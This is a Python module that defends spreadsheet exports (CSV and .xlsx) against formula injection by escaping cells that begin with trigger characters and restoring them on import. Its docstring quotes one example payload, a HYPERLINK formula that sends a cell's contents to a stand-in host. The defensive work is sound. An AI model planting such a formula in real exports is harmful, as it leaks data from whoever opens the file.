"""Spreadsheet cells that cannot run: every CSV and Excel file Bouwregie writes goes through here, and the
importer reads its own files back through `restored` (issue #16, fault 2).

Excel, LibreOffice and Google Sheets read a text cell that starts with `=`, `+`, `-` or `@` as a formula;
a leading tab, carriage return or line feed is dropped first, and some locales (Japanese Excel) also accept
the full-width forms ＝ ＋ － ＠. A project name such as `=HYPERLINK("http://x.example/?"&A1,"klik")` would
then run on the desk of whoever opens the export: one municipality's cell reaching the Rijk. OWASP's advice
("CSV Injection") is followed: such text gets one leading apostrophe, which every spreadsheet shows as text.
In .xlsx every text cell is also a string cell, never a formula or error value (see `xlsx_append`) — with the
apostrophe in the value, so the text stays inert after an edit in Excel and in any tool that copies the
values on (pandas, a later CSV). Nothing from the data becomes a hyperlink, defined name or external link.

Only text is touched. Numbers, dates, booleans and empty cells are written as they are (a real -2 stays the
number -2), and so is text that is nothing but a plain number ("-2", "-1.234,5"): it cannot be a formula.

Lossless round trip: `restored` removes exactly one leading apostrophe, and only where `inert` would have
added one. A name that really starts with an apostrophe before a trigger ("'=1") is therefore exported as
"''=1" and comes back as "'=1"; a name such as "'t Veld" is never changed either way. A third party's CSV
with "'=1" is read as "=1", which is also what Excel shows for it.

GeoPackage and GeoJSON exports are not spreadsheets (QGIS and ArcGIS keep attribute text as typed values and
run nothing) and are written unchanged, so GIS users get the real names; the importer leaves GIS files alone.
"""

import csv
import re
from datetime import date, datetime, time
from decimal import Decimal

# OWASP's list (= + - @ tab CR), line feed, and the full-width forms of the four signs.
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Spaces a spreadsheet may skip before the sign: " =1" is neutralised too.
_LEADING_SPACE = " \u00a0\u3000"
# Digits with optional sign, grouping and decimal separators ("-2", "+31", "-1.234,5", "1e-3"): never a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?", re.ASCII)
_AS_IS = (int, float, Decimal, date, datetime, time, type(None))  # bool is an int
_SUSPECT_FIRST = TRIGGERS | set(_LEADING_SPACE) | {"'"}
_PLAIN = frozenset({int, float, type(None)})


def _formula_like(text: str) -> bool:
    body = text.lstrip(_LEADING_SPACE)
    return body[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(body)


def needs_apostrophe(text: str) -> bool:
    """Whether `inert` puts an apostrophe before this text: it would run as a formula, or it already starts
    with apostrophes before such text (so that `restored` can tell ours from the name's own)."""
    return _formula_like(text.lstrip("'"))


def inert(value):
    """A value for one spreadsheet cell: numbers, dates and None unchanged; anything else as text, with an
    apostrophe before text that a spreadsheet would run."""
    if isinstance(value, str):
        if not value or value[0] not in _SUSPECT_FIRST:  # nearly every cell: one set lookup
            return value
        text = value
    elif isinstance(value, _AS_IS):
        return value
    else:
        text = str(value)
    return "'" + text if needs_apostrophe(text) else text


def restored(value):
    """The value `inert` was given, from a cell read back from a CSV or .xlsx file."""
    if isinstance(value, str) and value[:1] == "'" and needs_apostrophe(value[1:]):
        return value[1:]
    return value


def inert_row(values) -> list:
    """`inert` for every value of a row; numbers and ordinary text skip the call (a third of the time)."""
    return [v if type(v) in _PLAIN or (type(v) is str and v[:1] not in _SUSPECT_FIRST) else inert(v) for v in values]


class CsvWriter:
    """csv.writer whose every field passes `inert`; the same writerow/writerows."""

    def __init__(self, f, delimiter: str = ";"):
        self._writer = csv.writer(f, delimiter=delimiter)

    def writerow(self, values):
        return self._writer.writerow(inert_row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)


def csv_writer(f, delimiter: str = ";") -> CsvWriter:
    """The writer for every CSV we produce (web downloads, `bouwregie export`, reports, --format csv)."""
    return CsvWriter(f, delimiter)


def xlsx_append(worksheet, values) -> None:
    """One row onto an openpyxl worksheet (write-only or not); every text cell is a string cell.

    openpyxl guesses a cell's type from its value: text starting with '=' becomes a formula and text such as
    '#N/A' an error value; everything else is already a string cell. Those two kinds are therefore written as
    explicit string cells (after `inert`, no text starts with '=' — this holds even if that ever changed);
    the rest goes in as plain values, because an explicit cell object per text cell doubles the time of a
    write-only workbook (bench/results/exports.md)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

    row = inert_row(values)
    for i, value in enumerate(row):
        if isinstance(value, str) and ILLEGAL_CHARACTERS_RE.search(value):
            # A control character XML cannot hold, stored before the door refused them (projects.rules): shown
            # as U+FFFD in this file rather than failing the whole export; the stored value is untouched.
            value = row[i] = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        if isinstance(value, str) and (value[:1] == "=" or value in ERROR_CODES):
            cell = WriteOnlyCell(worksheet, value=value)
            cell.data_type = "s"
            row[i] = cell
    worksheet.append(row)
